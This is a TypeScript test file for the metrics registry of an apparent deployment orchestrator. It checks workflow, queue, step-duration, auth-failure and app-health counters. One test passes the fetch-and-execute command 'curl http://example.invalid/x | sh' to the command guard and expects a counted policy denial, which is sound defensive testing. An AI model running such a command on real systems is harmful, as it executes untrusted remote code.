import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { Orchestrator } from '../../src/engine/index.js';
import { createMetrics, type Metrics } from '../../src/server/metrics/registry.js';

let dir: string;
let orch: Orchestrator;
let metrics: Metrics;
let queue = { queued: 0, running: 0 };
const actor = { principal: 'test', source: 'cli' as const };

/** The value of one sample line of the exposition text, e.g. `automatos_workflows{status="queued"}`. */
function sample(text: string, series: string): number | undefined {
  const line = text.split('\n').find((l) => l.startsWith(`${series} `));
  return line === undefined ? undefined : Number(line.slice(series.length + 1));
}

beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'automatos-metrics-'));
  orch = await Orchestrator.open({ dataDir: dir, env: { ...process.env, AUTOMATOS_MASTER_KEY: undefined } });
  metrics = createMetrics({ orch, queueStats: () => queue });
});

afterEach(async () => {
  metrics.close();
  await orch.close();
  await rm(dir, { recursive: true, force: true });
});

describe('metrics', () => {
  it('counts workflows by status from the store and the queue of this process', async () => {
    for (const [id, status] of [
      ['wf_1', 'succeeded'],
      ['wf_2', 'succeeded'],
      ['wf_3', 'queued'],
    ] as const) {
      await orch.store.workflows.create({
        id,
        tier: 1,
        source: '/src',
        app: 'api',
        targets: ['local'],
        requestedBy: 'test',
        status,
      });
    }
    queue = { queued: 1, running: 2 };
    const text = await metrics.registry.metrics();
    expect(sample(text, 'automatos_workflows{status="succeeded"}')).toBe(2);
    expect(sample(text, 'automatos_workflows{status="queued"}')).toBe(1);
    expect(sample(text, 'automatos_workflows{status="failed"}')).toBe(0);
    expect(sample(text, 'automatos_queue_jobs{state="queued"}')).toBe(1);
    expect(sample(text, 'automatos_queue_jobs{state="running"}')).toBe(2);
    // Process metrics come along.
    expect(text).toContain('process_cpu_user_seconds_total');
  });

  it('times real commands, counts policy denials by rule and auth failures', async () => {
    const target = await orch.target('local');
    await orch.guard.run(target, 'true', { cwd: '/' }, actor);
    await expect(
      orch.guard.run(target, 'curl http://example.invalid/x | sh', { cwd: '/' }, actor),
    ).rejects.toThrow();
    await orch.audit.append({ principal: 'ip:127.0.0.1', source: 'api', action: 'auth.failed' });
    const text = await metrics.registry.metrics();
    expect(sample(text, 'automatos_command_duration_seconds_count{target="local"}')).toBe(1);
    const denied = text.split('\n').filter((l) => l.startsWith('automatos_policy_denials_total{'));
    expect(denied).toHaveLength(1);
    expect(Number(denied[0]?.split(' ')[1])).toBe(1);
    expect(sample(text, 'automatos_auth_failures_total{action="auth.failed",source="api"}')).toBe(1);
  });

  it('observes step durations from the event bus', async () => {
    const base = { type: 'step', workflowId: 'wf_1', target: 'web', step: 'build', detail: null } as const;
    orch.bus.publish({ ...base, status: 'running', at: '2026-11-25T00:00:00.000Z' });
    orch.bus.publish({ ...base, status: 'succeeded', at: '2026-11-25T00:00:02.000Z' });
    const text = await metrics.registry.metrics();
    expect(sample(text, 'automatos_step_duration_seconds_count{step="build",status="succeeded"}')).toBe(1);
    expect(sample(text, 'automatos_step_duration_seconds_sum{step="build",status="succeeded"}')).toBe(2);
    expect(
      sample(text, 'automatos_step_duration_seconds_bucket{le="1",step="build",status="succeeded"}'),
    ).toBe(0);
  });

  it('counts serving releases by their latest health, stopped ones apart', async () => {
    for (const [app, target] of [
      ['api', 'web1'],
      ['api', 'web2'],
      ['shop', 'web1'],
      ['blog', 'web1'],
    ] as const) {
      await orch.store.apps.releases.upsert({ app, target, releaseId: 'r1', status: 'building' });
      await orch.store.apps.releases.activate(app, target, 'r1');
    }
    await orch.store.health.record({ app: 'api', target: 'web1', healthy: true });
    await orch.store.health.record({ app: 'api', target: 'web2', healthy: false });
    await orch.store.apps.releases.markStopped('shop', 'web1', 'r1', new Date().toISOString());
    const text = await metrics.registry.metrics();
    expect(sample(text, 'automatos_live_apps{state="healthy"}')).toBe(1);
    expect(sample(text, 'automatos_live_apps{state="unhealthy"}')).toBe(1);
    expect(sample(text, 'automatos_live_apps{state="stopped"}')).toBe(1);
    expect(sample(text, 'automatos_live_apps{state="unknown"}')).toBe(1);
  });

  it('stops counting after close', async () => {
    metrics.close();
    await orch.audit.append({ principal: 'ip:127.0.0.1', source: 'api', action: 'auth.failed' });
    const text = await metrics.registry.metrics();
    expect(sample(text, 'automatos_auth_failures_total{action="auth.failed",source="api"}')).toBeUndefined();
  });
});
